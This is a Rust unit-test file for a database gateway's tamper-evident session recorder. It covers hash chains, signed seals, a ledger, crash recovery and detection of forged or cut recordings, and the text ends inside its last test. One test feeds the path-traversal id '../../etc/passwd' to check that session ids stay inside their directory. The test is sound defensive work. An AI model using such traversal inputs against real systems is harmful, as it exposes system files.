//! Unit tests: a recording written by the writer verifies, and each kind
//! of tampering is caught at the right line.
use std::path::{Path, PathBuf};

use super::{verify::Verdict, *};

/// Recording under `dir` (also used by the DNS session's tests).
pub(crate) fn settings(dir: &Path) -> RecordingSettings {
    RecordingSettings {
        enabled: true,
        dir: dir.join("sessions"),
        keys_dir: dir.join("keys"),
        result_rows: 10,
        retention: retention::Limits::default(),
        sink: None,
        sink_backlog: sink::DEFAULT_BACKLOG,
    }
}

/// A session start as a PostgreSQL session records it (also used by the
/// CLI's tests).
pub(crate) fn start() -> Body {
    Body::SessionStart {
        identity: Identity {
            pid: 42,
            uid: 1000,
            gid: 1000,
            comm: "psql".into(),
            cgroup_id: 7,
            job: None,
        },
        dst: "127.0.0.3:5432".into(),
        protocol: "postgres".into(),
        target: Some("orders-db".into()),
        decision: "allow".into(),
        rule: "ci".into(),
        mode: "enforce".into(),
    }
}

/// The end of a one-statement session.
pub(crate) fn end() -> Body {
    Body::SessionEnd {
        bytes_up: 10,
        bytes_down: 20,
        statements: 1,
        denied: 0,
        error: None,
    }
}

pub(crate) fn statement(text: &str) -> Body {
    Body::Statement {
        text: text.into(),
        class: "read".into(),
        decision: "allow".into(),
        rule: "ci".into(),
        reason: String::new(),
    }
}

/// Records a four-event session (+ seal) and returns its file and the
/// host's public key.
async fn recorded(dir: &Path) -> (PathBuf, String) {
    let settings = settings(dir);
    let recorder = Recorder::start(&settings).unwrap();
    let session = recorder.open(start()).await;
    session.healthy().unwrap();
    session.record(statement("SELECT 1"));
    session.record(Body::Result {
        text: None,
        rows: 1,
        duration_us: 10,
        error: None,
        masked: false,
        columns: vec!["?column?".into()],
        sample: vec![vec![Some("1".into())]].into(),
    });
    let id = session.id().to_owned();
    session.close(end());
    recorder.shutdown().await;
    let path = files::find(&settings.dir, &id).unwrap();
    let public = keys::read_public(&keys::public_key_path(&settings.keys_dir)).unwrap();
    (path, public)
}

fn lines(data: &[u8]) -> Vec<Vec<u8>> {
    data.split_inclusive(|&b| b == b'\n')
        .map(<[u8]>::to_vec)
        .collect()
}

fn tampered_at(data: &[u8], public: &str) -> (usize, String) {
    match verify::verify(data, &[public.to_owned()]).0 {
        Verdict::Tampered { line, reason, .. } => (line, reason),
        other => panic!("not caught: {other:?}"),
    }
}

#[tokio::test]
async fn a_written_session_verifies_and_tampering_is_named() {
    let dir = tempfile::tempdir().unwrap();
    let (path, public) = recorded(dir.path()).await;
    let data = std::fs::read(&path).unwrap();
    let (verdict, events) = verify::verify(&data, std::slice::from_ref(&public));
    assert_eq!(verdict, Verdict::Sealed { events: 5 });
    let kinds: Vec<&str> = events.iter().map(|e| e.body.kind()).collect();
    assert_eq!(
        kinds,
        [
            "session_start",
            "statement",
            "result",
            "session_end",
            "seal"
        ]
    );

    // One flipped byte inside the statement text.
    let mut flipped = data.clone();
    let at = flipped.windows(8).position(|w| w == b"SELECT 1").unwrap();
    flipped[at + 7] = b'2';
    let (line, reason) = tampered_at(&flipped, &public);
    assert_eq!(line, 2);
    assert!(reason.contains("was changed"), "{reason}");

    let all = lines(&data);
    // A deleted line.
    let deleted: Vec<u8> = [&all[..2], &all[3..]].concat().concat();
    let (line, reason) = tampered_at(&deleted, &public);
    assert_eq!(line, 3);
    assert!(reason.contains("removed, inserted or moved"), "{reason}");
    // Two lines swapped.
    let swapped: Vec<u8> = [all[0].as_slice(), &all[2], &all[1], &all[3], &all[4]].concat();
    assert_eq!(tampered_at(&swapped, &public).0, 2);
    // Truncated inside the last line.
    let (line, reason) = tampered_at(&data[..data.len() - 10], &public);
    assert_eq!(line, 5);
    assert!(reason.contains("truncated"), "{reason}");
    // Cut at a line boundary before the seal: intact but unsealed.
    let unsealed: Vec<u8> = all[..4].concat();
    assert_eq!(
        verify::verify(&unsealed, std::slice::from_ref(&public)).0,
        Verdict::Unsealed { events: 4 }
    );

    // A seal from another key, re-chained so only the signature differs.
    let other = tempfile::tempdir().unwrap();
    let (other_path, _) = recorded(other.path()).await;
    let other_seal = lines(&std::fs::read(other_path).unwrap())[4].clone();
    let replaced: Vec<u8> = [all[..4].concat(), other_seal].concat();
    assert_eq!(tampered_at(&replaced, &public).0, 5);
    // Verified with a key that is not the host's.
    assert!(matches!(
        verify::verify(&data, &["00".repeat(32)]).0,
        Verdict::Tampered { line: 5, .. }
    ));
}

#[tokio::test]
async fn an_unwritable_directory_fails_the_session_at_open() {
    let dir = tempfile::tempdir().unwrap();
    let settings = settings(dir.path());
    let recorder = Recorder::start(&settings).unwrap();
    // A file where the date folder should go.
    let session = {
        let (_, path) = files::new_session(&settings.dir);
        let year = path.ancestors().nth(3).unwrap().to_path_buf();
        std::fs::write(&year, b"not a directory").unwrap();
        recorder.open(start()).await
    };
    let error = session.healthy().unwrap_err();
    assert!(error.starts_with("cannot create "), "{error}");
}

/// A fresh directory closed to others, as a keys directory must be.
fn key_dir() -> tempfile::TempDir {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o700)).unwrap();
    dir
}

#[test]
fn the_key_is_made_once_and_kept() {
    let dir = key_dir();
    let a = keys::HostKey::load_or_create(dir.path()).unwrap();
    let b = keys::HostKey::load_or_create(dir.path()).unwrap();
    assert_eq!(a.public_hex(), b.public_hex());
    let signature = a.sign("s1", chain::GENESIS);
    assert!(keys::verify(
        &b.public_hex(),
        "s1",
        chain::GENESIS,
        None,
        &signature
    ));
    assert!(!keys::verify(
        &b.public_hex(),
        "s2",
        chain::GENESIS,
        None,
        &signature
    ));
    // A session's seal cannot pass for a recovered one, nor the reverse.
    assert!(!keys::verify(
        &b.public_hex(),
        "s1",
        chain::GENESIS,
        Some("gateway stopped"),
        &signature
    ));
    let recovered = a.sign_recovered("s1", chain::GENESIS, "gateway stopped");
    assert!(keys::verify(
        &b.public_hex(),
        "s1",
        chain::GENESIS,
        Some("gateway stopped"),
        &recovered
    ));
    // Nor can a recovered seal's reason be reworded, nor dropped.
    for reason in [Some("gateway stopped; a torn line was cut off"), None] {
        assert!(!keys::verify(
            &b.public_hex(),
            "s1",
            chain::GENESIS,
            reason,
            &recovered
        ));
    }
    // A public key file lost to a power loss is written again.
    std::fs::write(dir.path().join("host.ed25519.pub"), "").unwrap();
    let c = keys::HostKey::load_or_create(dir.path()).unwrap();
    let public = keys::read_public(&keys::public_key_path(dir.path())).unwrap();
    assert_eq!(public, c.public_hex());
    std::fs::write(dir.path().join("host.ed25519"), "garbage").unwrap();
    let e = keys::HostKey::load_or_create(dir.path()).err().unwrap();
    assert!(e.contains("not a 64-hex-digit ed25519 seed"), "{e}");
}

/// `HostKey::load_or_create(dir)`, failing the test instead of hanging it.
fn load_key_within_5s(dir: &Path) -> Result<keys::HostKey, String> {
    let (tx, rx) = std::sync::mpsc::channel();
    let dir = dir.to_path_buf();
    std::thread::spawn(move || {
        let _ = tx.send(keys::HostKey::load_or_create(&dir));
    });
    rx.recv_timeout(std::time::Duration::from_secs(5))
        .expect("the key loads (or fails) within 5 s")
}

#[test]
fn a_key_file_that_is_a_fifo_or_huge_is_refused_by_name() {
    use nix::sys::stat::Mode;
    let dir = key_dir();
    let secret = dir.path().join("host.ed25519");
    nix::unistd::mkfifo(&secret, Mode::S_IRUSR | Mode::S_IWUSR).unwrap();
    let e = load_key_within_5s(dir.path()).err().unwrap();
    assert!(
        e.contains(&secret.display().to_string()) && e.contains("FIFO"),
        "{e}"
    );
    std::fs::remove_file(&secret).unwrap();
    std::fs::File::create(&secret)
        .unwrap()
        .set_len(100 << 30)
        .unwrap();
    let e = load_key_within_5s(dir.path()).err().unwrap();
    assert!(
        e.contains(&secret.display().to_string()) && e.contains("larger than"),
        "{e}"
    );
    std::fs::remove_file(&secret).unwrap();
    // A FIFO for the public key is replaced from the secret, not read.
    let key = load_key_within_5s(dir.path()).unwrap();
    let public = keys::public_key_path(dir.path());
    std::fs::remove_file(&public).unwrap();
    nix::unistd::mkfifo(&public, Mode::S_IRUSR | Mode::S_IWUSR).unwrap();
    // And one left where the public key is written before its rename.
    let tmp = dir.path().join("host.ed25519.pub.new");
    nix::unistd::mkfifo(&tmp, Mode::S_IRUSR | Mode::S_IWUSR).unwrap();
    let again = load_key_within_5s(dir.path()).unwrap();
    assert_eq!(again.public_hex(), key.public_hex());
    assert_eq!(keys::read_public(&public).unwrap(), key.public_hex());
}

#[test]
fn a_key_is_made_only_in_a_directory_closed_to_others() {
    use std::os::unix::fs::PermissionsExt;
    let root = tempfile::tempdir().unwrap();
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    // Made here: 0700.
    let made = root.path().join("var/keys");
    keys::HostKey::load_or_create(&made).unwrap();
    assert_eq!(mode(&made), 0o700);
    // Chosen by someone, open to others: refused, left as it was.
    let open = root.path().join("open");
    std::fs::create_dir(&open).unwrap();
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o755)).unwrap();
    let e = keys::HostKey::load_or_create(&open).err().unwrap();
    assert!(
        e.starts_with(&format!(
            "{} is open to other users (mode 0755)",
            open.display()
        )),
        "{e}"
    );
    assert_eq!(mode(&open), 0o755);
    assert!(!open.join("host.ed25519").exists());
    // Closed to others: used as it is.
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o700)).unwrap();
    keys::HostKey::load_or_create(&open).unwrap();
    // Not a directory at all.
    let file = root.path().join("file");
    std::fs::write(&file, "").unwrap();
    assert!(keys::HostKey::load_or_create(&file).is_err());
}

#[test]
fn session_ids_cannot_leave_the_directory() {
    let dir = tempfile::tempdir().unwrap();
    for id in ["../../etc/passwd", "", "a/b", "ééééé", ".hidden"] {
        let e = files::find(dir.path(), id).unwrap_err();
        assert!(e.contains("is not a session id"), "{id:?}: {e}");
    }
    let e = files::find(dir.path(), "20261127T015012Z-1a2b3c4d5e6f").unwrap_err();
    assert!(e.starts_with("no recording"), "{e}");
}

#[tokio::test]
async fn a_disabled_recorder_writes_nothing_and_stays_healthy() {
    let dir = tempfile::tempdir().unwrap();
    let settings = RecordingSettings {
        enabled: false,
        ..settings(dir.path())
    };
    let recorder = Recorder::start(&settings).unwrap();
    let session = recorder.open(start()).await;
    session.healthy().unwrap();
    session.record(statement("SELECT 1"));
    session.close(Body::SessionEnd {
        bytes_up: 0,
        bytes_down: 0,
        statements: 1,
        denied: 0,
        error: None,
    });
    recorder.flush().await;
    recorder.shutdown().await;
    assert!(
        !settings.dir.exists(),
        "a disabled recorder made its directory"
    );
    assert!(
        !settings.keys_dir.exists(),
        "a disabled recorder made a key"
    );
}

#[test]
fn chain_hashes_are_lowercase_hex_sha256() {
    use sha2::{Digest, Sha256};
    let event = br#"{"seq":0}"#;
    let mut expected = Sha256::new();
    expected.update(chain::GENESIS.as_bytes());
    expected.update(b"\n");
    expected.update(event);
    assert_eq!(
        chain::hash(chain::GENESIS, event),
        hex::encode(expected.finalize())
    );
}

/// A host with an empty recordings folder that seals with the key
/// `recorded(from)` made: its temporary directory (kept while in use),
/// the folder, the key and the ledger head's path.
fn new_host(from: &Path) -> (tempfile::TempDir, PathBuf, keys::HostKey, PathBuf) {
    let host = tempfile::tempdir().unwrap();
    let dir = host.path().join("sessions");
    std::fs::create_dir_all(&dir).unwrap();
    let keys_dir = settings(from).keys_dir;
    let key = keys::HostKey::load_or_create(&keys_dir).unwrap();
    let head = ledger::head_path(&keys_dir, &dir);
    (host, dir, key, head)
}

/// Puts `data` where the recording `id` belongs under `dir`.
fn place(dir: &Path, id: &str, data: &[u8]) -> PathBuf {
    let path = dir
        .join(&id[0..4])
        .join(&id[4..6])
        .join(&id[6..8])
        .join(format!("{id}.jsonl"));
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, data).unwrap();
    path
}

fn session_id(path: &Path) -> String {
    path.file_stem().unwrap().to_str().unwrap().to_owned()
}

/// Retention lists a removal, then the gateway dies before the unlink:
/// the next start finishes it, so no verdict ever sees the file.
#[tokio::test]
async fn a_restart_finishes_a_removal_cut_short() {
    let a = tempfile::tempdir().unwrap();
    let (sealed, _) = recorded(a.path()).await;
    let (_host, dir, key, head) = new_host(a.path());
    let id = session_id(&sealed);
    let path = place(&dir, &id, &std::fs::read(&sealed).unwrap());
    let (mut ledger, known) = ledger::LedgerWriter::open(&dir, &head, &key).unwrap();
    recover::recover(&dir, &key, &mut ledger, &known).unwrap();
    ledger
        .append(&key, ledger::Outcome::Removed, &id, 0, "")
        .unwrap();
    // Listed as opened, then the gateway died before making its file.
    let unmade = "20261127T000000Z-0000000000aa";
    ledger
        .append(&key, ledger::Outcome::Opened, unmade, 0, "")
        .unwrap();
    ledger.sync().unwrap();
    drop(ledger);

    let (mut ledger, known) = ledger::LedgerWriter::open(&dir, &head, &key).unwrap();
    let done = recover::recover(&dir, &key, &mut ledger, &known).unwrap();
    drop(ledger);
    assert_eq!((done.removed, done.left), (2, 0));
    assert!(!path.exists(), "a removal cut short was left half done");
    let head = ledger::read_head(&head).unwrap();
    let read = ledger::Ledger::read(&dir, &[key.public_hex()], head.as_ref())
        .unwrap()
        .unwrap();
    assert_eq!(read.entries[unmade].outcome, ledger::Outcome::Removed);
}

/// Against a sound ledger, a recording it never listed is planted; a
/// sealed one retention has listed as removed is caught mid-removal.
#[test]
fn a_sound_ledger_that_never_listed_a_recording_calls_it_planted() {
    let unsealed = || Verdict::Unsealed { events: 3 };
    match verify::against_ledger(unsealed(), &Default::default(), None, true) {
        Verdict::Tampered {
            line: 1, reason, ..
        } => {
            assert!(reason.contains("never listed"), "{reason}")
        }
        other => panic!("a planted recording passed: {other:?}"),
    }
    // No ledger to say so (a copy, recordings from before it).
    assert_eq!(
        verify::against_ledger(unsealed(), &Default::default(), None, false),
        unsealed()
    );
    let removed = ledger::Entry {
        seq: 4,
        wall: String::new(),
        outcome: ledger::Outcome::Removed,
        session: "s".into(),
        events: 0,
        final_hash: String::new(),
        public_key: String::new(),
        signature: String::new(),
    };
    let sealed = Verdict::Sealed { events: 5 };
    assert_eq!(
        verify::against_ledger(sealed.clone(), &Default::default(), Some(&removed), true),
        sealed
    );
    assert!(matches!(
        verify::against_ledger(unsealed(), &Default::default(), Some(&removed), true),
        Verdict::Tampered { .. }
    ));
}

#[tokio::test]
async fn a_restart_seals_what_a_crash_left_and_the_ledger_catches_a_cut() {
    // Two finished recordings from other runs: one is put back whole,
    // the other without its last two lines (end and seal), as a gateway
    // killed mid-session leaves it.
    let (a, c) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let (whole, public) = recorded(a.path()).await;
    let (cut, _) = recorded(c.path()).await;
    let (_host, dir, key, head) = new_host(a.path());
    let open = || ledger::LedgerWriter::open(&dir, &head, &key).unwrap();

    // A new ledger lists the sealed recordings already there.
    let whole_id = session_id(&whole);
    place(&dir, &whole_id, &std::fs::read(&whole).unwrap());
    let (mut ledger, known) = open();
    assert!(known.fresh);
    let done = recover::recover(&dir, &key, &mut ledger, &known).unwrap();
    assert_eq!((done.sealed, done.listed, done.left), (0, 1, 0));

    // The gateway opened the cut one, fsynced its three events, then
    // died halfway through writing a fourth. It also opened a third
    // session, whose file someone cut below what was fsynced.
    let cut_id = session_id(&cut);
    let cut_lines = lines(&std::fs::read(&cut).unwrap());
    let e = tempfile::tempdir().unwrap();
    let (rewritten, _) = recorded(e.path()).await;
    let rewritten_id = session_id(&rewritten);
    let rewritten_lines = lines(&std::fs::read(&rewritten).unwrap());
    let anchor = |lines: &[Vec<u8>], n: usize| ledger::Anchor {
        events: n as u64,
        hash: chain::split(lines[n - 1].strip_suffix(b"\n").unwrap())
            .unwrap()
            .0
            .to_owned(),
    };
    // And one whose file never got a whole line to disk.
    let empty_id = "20261127T000000Z-0000000000ee".to_owned();
    for id in [&cut_id, &rewritten_id, &empty_id] {
        ledger
            .append(&key, ledger::Outcome::Opened, id, 0, "")
            .unwrap();
    }
    ledger.set_anchors(
        [
            (cut_id.clone(), anchor(&cut_lines, 3)),
            (rewritten_id.clone(), anchor(&rewritten_lines, 3)),
        ]
        .into(),
    );
    ledger.sync().unwrap();
    drop(ledger);
    let mut torn = cut_lines[..3].concat();
    torn.extend_from_slice(&cut_lines[3][..20]);
    let cut_path = place(&dir, &cut_id, &torn);
    let rewritten_path = place(&dir, &rewritten_id, &rewritten_lines[..2].concat());
    let empty_path = place(&dir, &empty_id, b"{\"hash\":\"01");
    // And a copy of the cut one in another date folder.
    let copy_dir = dir.join("2020").join("01").join("01");
    std::fs::create_dir_all(&copy_dir).unwrap();
    std::fs::write(
        copy_dir.join(format!("{cut_id}.jsonl")),
        cut_lines[..3].concat(),
    )
    .unwrap();
    // Neither of these was opened by the gateway: a damaged file, and an
    // intact unsealed one that merely appeared (the same cut lines under
    // another name). Neither may come out sealed with the host's key.
    let damaged = b"{\"hash\":\"not a recording\"}\n";
    let damaged_path = place(&dir, "20261127T000000Z-000000000000", damaged);
    let forged_path = place(
        &dir,
        "20261127T000000Z-0000000000ff",
        &cut_lines[..3].concat(),
    );

    let (mut ledger, known) = open();
    assert!(!known.fresh);
    let done = recover::recover(&dir, &key, &mut ledger, &known).unwrap();
    assert_eq!(
        done,
        recover::Recovery {
            sealed: 1,
            listed: 0,
            left: 4,
            removed: 0,
            damaged: 1,
        }
    );
    assert_eq!(
        std::fs::read(&rewritten_path).unwrap(),
        rewritten_lines[..2].concat(),
        "a recording cut below what was fsynced was sealed"
    );
    assert!(
        !empty_path.exists(),
        "an opened recording with no whole line stayed"
    );
    let data = std::fs::read(&cut_path).unwrap();
    let (verdict, events) = verify::verify(&data, std::slice::from_ref(&public));
    assert_eq!(verdict, Verdict::Recovered { events: 4 });
    assert!(matches!(
        &events[3].body,
        Body::Seal { recovered: Some(r), .. }
            if r.starts_with(recover::REASON) && r.contains("half-written last line (20 bytes)")
                && !r.contains("after the gateway's last fsync")
    ));
    // The reason is signed: rewording it (and re-hashing its line, which
    // takes no key) is tampering.
    let seal_lines = lines(&data);
    let (_, prev, event) = chain::split(seal_lines[3].trim_ascii_end()).unwrap();
    let event = String::from_utf8(event.to_vec()).unwrap();
    let reworded = event.replace("; a half-written last line (20 bytes) was cut off", "");
    assert_ne!(reworded, event);
    let mut forged = seal_lines[..3].concat();
    chain::append_line(&mut forged, prev, reworded.as_bytes());
    let (verdict, _) = verify::verify(&forged, std::slice::from_ref(&public));
    assert!(
        matches!(&verdict, Verdict::Tampered { line: 4, reason, .. } if reason.contains("signature does not verify")),
        "{verdict:?}"
    );
    assert_eq!(
        std::fs::read(&damaged_path).unwrap(),
        damaged,
        "a damaged recording was changed"
    );
    assert_eq!(
        std::fs::read(&forged_path).unwrap(),
        cut_lines[..3].concat(),
        "a recording the gateway never opened was sealed"
    );
    // Nothing new to do on the next start.
    drop(ledger);
    let (mut ledger, known) = open();
    let again = recover::recover(&dir, &key, &mut ledger, &known).unwrap();
    assert_eq!((again.sealed, again.listed), (0, 0));
    drop(ledger);

    let head = ledger::read_head(&head).unwrap();
    let listed = ledger::Ledger::read(&dir, std::slice::from_ref(&public), head.as_ref())
        .unwrap()
        .unwrap();
    assert_eq!(listed.problem, None);
    let check = |data: &[u8], id: &str| {
        let (verdict, events) = verify::verify(data, std::slice::from_ref(&public));
        verify::against_ledger(
            verdict,
            &verify::Summary::of(&events),
            listed.entries.get(id),
            true,
        )
    };
    assert_eq!(check(&data, &cut_id), Verdict::Recovered { events: 4 });
    // Cut short again, seal dropped: no longer a crash, but tampering.
    let recut = lines(&data)[..2].concat();
    match check(&recut, &cut_id) {
        Verdict::Tampered {
            line: 3,
            seq: Some(2),
            reason,
        } => {
            assert!(
                reason.contains("ledger") && reason.contains("cut short"),
                "{reason}"
            )
        }
        other => panic!("a cut recording passed: {other:?}"),
    }
    // The same for a session that ended normally.
    let whole_data = std::fs::read(&whole).unwrap();
    assert_eq!(check(&whole_data, &whole_id), Verdict::Sealed { events: 5 });
    assert!(matches!(
        check(&lines(&whole_data)[..4].concat(), &whole_id),
        Verdict::Tampered { line: 5, .. }
    ));
}

#[test]
fn a_ledger_entry_with_an_odd_final_hash_is_described_not_panicked_on() {
    let entry = ledger::Entry {
        seq: 0,
        wall: String::new(),
        outcome: ledger::Outcome::Sealed,
        session: "s".into(),
        events: 3,
        final_hash: "é".repeat(20),
        public_key: String::new(),
        signature: String::new(),
    };
    let verdict = verify::against_ledger(
        Verdict::Unsealed { events: 2 },
        &Default::default(),
        Some(&entry),
        true,
    );
    assert!(
        matches!(&verdict, Verdict::Tampered { reason, .. } if reason.contains("cut short")),
        "{verdict:?}"
    );
}

#[test]
fn public_keys_are_checked_and_lowercased() {
    let dir = key_dir();
    let key = keys::HostKey::load_or_create(dir.path()).unwrap();
    let public = key.public_hex();
    assert_eq!(
        keys::parse_public(&public.to_uppercase()),
        Some(public.clone())
    );
    for bad in [
        "zz",
        "",
        &public[..62],
        &format!("{public}00"),
        &"g".repeat(64),
    ] {
        assert_eq!(keys::parse_public(bad), None, "{bad}");
    }
    let path = keys::public_key_path(dir.path());
    assert_eq!(keys::read_public(&path).unwrap(), public);
    std::fs::write(&path, "\x1b[31mnot a key\n").unwrap();
    let e = keys::read_public(&path).unwrap_err();
    assert!(
        e.starts_with(&format!("{} does not hold a 64-hex-digit", path.display())),
        "{e}"
    );
}

#[test]
fn files_not_where_their_name_puts_them_are_named_as_such() {
    use std::{ffi::OsStr, os::unix::ffi::OsStrExt};
    let dir = Path::new("/rec");
    let day = dir.join("2026/11/27");
    let home = day.join("20261127T015012Z-1a2b3c4d5e6f.jsonl");
    assert_eq!(files::misplaced(dir, &home), None);
    let elsewhere = day.join("20261128T000000Z-1a2b3c4d5e6f.jsonl");
    let why = files::misplaced(dir, &elsewhere).unwrap();
    assert!(
        why.ends_with(
            "not where its id puts it (/rec/2026/11/28/20261128T000000Z-1a2b3c4d5e6f.jsonl)"
        ),
        "{why}"
    );
    let short = files::misplaced(dir, &day.join("0000bad.jsonl")).unwrap();
    assert!(short.contains("\"0000bad\" is not a session id"), "{short}");
    let odd = files::misplaced(dir, &day.join("a.b.jsonl")).unwrap();
    assert!(odd.ends_with("\"a.b\" is not a session id"), "{odd}");
    let raw = day.join(OsStr::from_bytes(b"\xff\xfe.jsonl"));
    let lossy = files::misplaced(dir, &raw).unwrap();
    assert!(lossy.contains("not UTF-8"), "{lossy}");
}

/// The ledger lines of the recordings directory under `dir`.
fn ledger_lines(dir: &Path) -> usize {
    std::fs::read(dir.join("sessions").join(ledger::FILE))
        .unwrap()
        .iter()
        .filter(|&&b| b == b'\n')
        .count()
}

#[tokio::test]
async fn retention_keeps_the_ledger_from_growing_without_end() {
    let dir = tempfile::tempdir().unwrap();
    let mut settings = settings(dir.path());
    // Every ended recording goes at the next pass.
    settings.retention = retention::Limits {
        max_age: None,
        max_total_bytes: Some(1),
    };
    let recorder = Recorder::start(&settings).unwrap();
    // Opened, sealed and removed: three lines each, just past the minimum.
    let sessions = (ledger::COMPACT_MIN_LINES / 3 + 1) as usize;
    for _ in 0..sessions {
        let session = recorder.open(start()).await;
        session.close(end());
    }
    recorder.flush().await;
    assert_eq!(ledger_lines(dir.path()), 2 * sessions);
    let pass = recorder.clone();
    let removed = tokio::task::spawn_blocking(move || pass.enforce_retention())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(removed.sessions.len(), sessions);
    // The removals, then a sync that finds the ledger due.
    recorder.flush().await;
    recorder.flush().await;
    let still_open = recorder.open(start()).await;
    recorder.flush().await;
    // The compaction line (nothing left to restate), then the new opening.
    assert_eq!(ledger_lines(dir.path()), 2);
    recorder.shutdown().await;
    drop(still_open);
    drop(recorder);

    // The compacted ledger checks out against its head and lists only
    // the session still running.
    let head = ledger::read_head(&ledger::head_path(&settings.keys_dir, &settings.dir))
        .unwrap()
        .expect("a head");
    let key = keys::HostKey::load_or_create(&settings.keys_dir).unwrap();
    let read = ledger::Ledger::read(&settings.dir, &[key.public_hex()], Some(&head))
        .unwrap()
        .unwrap();
    assert_eq!(read.problem, None);
    assert_eq!(read.first_seq, 3 * sessions as u64);
    assert_eq!(read.entries.len(), 1);
}

/// Sessions whose writes fail as on a full disk: set by a test, read by
/// the writer (a process-wide RLIMIT_FSIZE would fail other tests' files).
static DISK_FULL: std::sync::Mutex<Vec<String>> = std::sync::Mutex::new(Vec::new());

pub(crate) fn disk_full_for(session: &str) -> bool {
    DISK_FULL
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .iter()
        .any(|s| s == session)
}

/// Sessions whose recordings are capped lower than in production: set by
/// a test, read by the writer.
static RECORDING_CAP: std::sync::Mutex<Vec<(String, u64)>> = std::sync::Mutex::new(Vec::new());

pub(crate) fn recording_cap_for(session: &str) -> Option<u64> {
    RECORDING_CAP
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .iter()
        .find(|(s, _)| s == session)
        .map(|(_, cap)| *cap)
}

fn set_disk_full(session: &str, full: bool) {
    let mut sessions = DISK_FULL.lock().unwrap_or_else(|p| p.into_inner());
    sessions.retain(|s| s != session);
    if full {
        sessions.push(session.to_owned());
    }
}

/// Starts the recorder again once the last one's writer thread has let
/// go of the ledger (`shutdown` does not wait for it to end).
pub(crate) fn restart(settings: &RecordingSettings) -> Arc<Recorder> {
    for _ in 0..250 {
        match Recorder::start(settings) {
            Ok(r) => return r,
            Err(e) if e.contains("is locked") => {
                std::thread::sleep(std::time::Duration::from_millis(20))
            }
            Err(e) => panic!("restart: {e}"),
        }
    }
    panic!("the old writer kept the ledger locked");
}

/// A recording of `id` as a forger writes it: a chain anyone can compute,
/// of another identity and a harmless statement.
fn forged(id: &str) -> Vec<u8> {
    let mut fake_start = start();
    if let Body::SessionStart { identity, .. } = &mut fake_start {
        identity.uid = 4242;
        identity.comm = "innocent".into();
    }
    let mut out = Vec::new();
    let mut prev = chain::GENESIS.to_owned();
    for (seq, body) in [fake_start, statement("SELECT 1")].into_iter().enumerate() {
        let e = Event {
            seq: seq as u64,
            session: id.to_owned(),
            wall: "2026-01-01T00:00:00.000000Z".into(),
            mono_us: 0,
            body,
        };
        prev = chain::append_line(&mut out, &prev, &serde_json::to_vec(&e).unwrap());
    }
    out
}

/// Found in review: a write failure (full disk) dropped the session from
/// the writer and its anchor from the head, so a recording rewritten
/// meanwhile was sealed with the host key at the next start. Now the
/// anchor stays (head and a `failed` ledger line): the intact recording
/// is sealed as recovered, the rewritten one is left and listed damaged.
#[tokio::test]
async fn a_recording_the_writer_gave_up_on_is_held_to_its_last_fsync() {
    let dir = tempfile::tempdir().unwrap();
    let s = settings(dir.path());
    let recorder = Recorder::start(&s).unwrap();
    let (kept, rewritten) = (recorder.open(start()).await, recorder.open(start()).await);
    for session in [&kept, &rewritten] {
        session.record(statement("DELETE FROM orders"));
    }
    recorder.flush().await;
    let ids = [kept.id().to_owned(), rewritten.id().to_owned()];
    let head_path = ledger::head_path(&s.keys_dir, &s.dir);
    let key = keys::HostKey::load_or_create(&s.keys_dir).unwrap();
    let public = key.public_hex();
    for id in &ids {
        set_disk_full(id, true);
    }
    for session in [&kept, &rewritten] {
        session.record(statement(&"x".repeat(20_000)));
    }
    recorder.flush().await;
    for id in &ids {
        set_disk_full(id, false);
    }
    assert!(kept.healthy().is_err() && rewritten.healthy().is_err());
    // A few syncs later the head still holds both where they were fsynced.
    for _ in 0..3 {
        recorder.flush().await;
    }
    let head = ledger::read_head(&head_path).unwrap().unwrap();
    let read_ledger = || {
        let head = ledger::read_head(&head_path).unwrap();
        ledger::Ledger::read(&s.dir, std::slice::from_ref(&public), head.as_ref())
            .unwrap()
            .unwrap()
    };
    let listed = read_ledger();
    assert_eq!(listed.problem, None);
    for id in &ids {
        let data = std::fs::read(files::find(&s.dir, id).unwrap()).unwrap();
        let second = chain::split(lines(&data)[1].strip_suffix(b"\n").unwrap())
            .unwrap()
            .0
            .to_owned();
        let anchor = ledger::Anchor {
            events: 2,
            hash: second,
        };
        assert_eq!(head.open.get(id), Some(&anchor), "{:?}", head.open);
        let entry = &listed.entries[id];
        assert_eq!(entry.outcome, ledger::Outcome::Failed);
        assert_eq!(entry.anchor(), Some(anchor));
    }
    drop((kept, rewritten));
    recorder.shutdown().await;
    drop(recorder);

    // Rewritten from scratch, chain recomputed: no key needed.
    let rewritten_path = files::find(&s.dir, &ids[1]).unwrap();
    let forgery = forged(&ids[1]);
    std::fs::write(&rewritten_path, &forgery).unwrap();
    // Meanwhile `verify` holds it to the head's anchor.
    let check = |id: &str, listed: &ledger::Ledger| {
        let data = std::fs::read(files::find(&s.dir, id).unwrap()).unwrap();
        let (verdict, events) = verify::verify(&data, std::slice::from_ref(&public));
        let head = ledger::read_head(&head_path).unwrap().unwrap();
        let entry = listed.entries.get(id);
        let anchor = head
            .open
            .get(id)
            .cloned()
            .or_else(|| entry.and_then(ledger::Entry::anchor));
        let verdict = match &anchor {
            Some(a) => verify::against_anchor(verdict, &data, a),
            None => verdict,
        };
        verify::against_ledger(verdict, &verify::Summary::of(&events), entry, true)
    };
    assert!(
        matches!(check(&ids[1], &listed), Verdict::Tampered { line: 2, ref reason, .. } if reason.contains("rewritten")),
        "{:?}",
        check(&ids[1], &listed)
    );

    let again = restart(&s);
    again.shutdown().await;
    assert_eq!(
        std::fs::read(&rewritten_path).unwrap(),
        forgery,
        "the forgery was sealed"
    );
    let listed = read_ledger();
    assert_eq!(listed.problem, None);
    assert_eq!(listed.entries[&ids[0]].outcome, ledger::Outcome::Recovered);
    assert_eq!(listed.entries[&ids[1]].outcome, ledger::Outcome::Damaged);
    assert_eq!(check(&ids[0], &listed), Verdict::Recovered { events: 3 });
    let verdict = check(&ids[1], &listed);
    assert!(matches!(verdict, Verdict::Tampered { .. }), "{verdict:?}");
    // Settled: the ledger says it now, the head need not.
